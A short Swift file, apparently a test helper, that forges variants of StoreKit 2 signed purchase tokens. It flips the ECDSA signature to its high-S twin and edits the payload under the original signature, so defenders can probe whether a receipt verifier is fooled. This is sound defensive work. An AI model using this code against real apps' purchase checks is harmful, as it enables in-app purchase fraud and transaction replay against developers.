import Foundation

/// What an attacker can do to a StoreKit 2 JWS without Apple's key: re-encode its ES256 signature
/// as its twin, or edit the payload under the old signature. An attack tool, not verification:
/// the arithmetic is the little it takes to make the bytes.
enum FraudJWS {
    /// The order n of P-256's group, big-endian.
    static let order: [UInt8] = [
        0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
        0xBC, 0xE6, 0xFA, 0xAD, 0xA7, 0x17, 0x9E, 0x84, 0xF3, 0xB9, 0xCA, 0xC2, 0xFC, 0x63, 0x25, 0x51,
    ]

    /// The same JWS with the signature (r, s) replaced by (r, n − s): an ECDSA verifier that does
    /// not insist on low S accepts both, so the bytes differ while what Apple signed does not.
    /// Nil when `jws` is not three segments with a 64-byte signature.
    static func twin(of jws: String) -> String? {
        let parts = jws.split(separator: ".", omittingEmptySubsequences: false)
        guard parts.count == 3, let signature = decode(parts[2]), signature.count == 64 else { return nil }
        let s = Array(signature[32...])
        guard s.contains(where: { $0 != 0 }) else { return nil }
        let twin = Array(signature[..<32]) + subtract(s, from: order)
        return "\(parts[0]).\(parts[1]).\(encode(twin))"
    }

    /// `minuend − subtrahend` over 32-byte big-endian numbers (minuend ≥ subtrahend).
    static func subtract(_ subtrahend: [UInt8], from minuend: [UInt8]) -> [UInt8] {
        var result = [UInt8](repeating: 0, count: minuend.count)
        var borrow = 0
        for index in stride(from: minuend.count - 1, through: 0, by: -1) {
            var digit = Int(minuend[index]) - Int(subtrahend[index]) - borrow
            borrow = digit < 0 ? 1 : 0
            if digit < 0 { digit += 256 }
            result[index] = UInt8(digit)
        }
        return result
    }

    /// The JWS with `edit` applied to its payload's JSON object, under the original signature.
    static func edited(_ jws: String, _ edit: (inout [String: Any]) -> Void) -> String? {
        let parts = jws.split(separator: ".", omittingEmptySubsequences: false)
        guard parts.count == 3, let payload = decode(parts[1]),
              var object = (try? JSONSerialization.jsonObject(with: Data(payload))) as? [String: Any] else { return nil }
        edit(&object)
        guard let data = try? JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]) else { return nil }
        return "\(parts[0]).\(encode(Array(data))).\(parts[2])"
    }

    static func decode(_ text: Substring) -> [UInt8]? {
        var base64 = text.replacingOccurrences(of: "-", with: "+").replacingOccurrences(of: "_", with: "/")
        base64 += String(repeating: "=", count: (4 - base64.count % 4) % 4)
        return Data(base64Encoded: base64).map(Array.init)
    }

    static func encode(_ bytes: [UInt8]) -> String {
        Data(bytes).base64EncodedString().replacingOccurrences(of: "+", with: "-").replacingOccurrences(of: "/", with: "_")
            .replacingOccurrences(of: "=", with: "")
    }
}
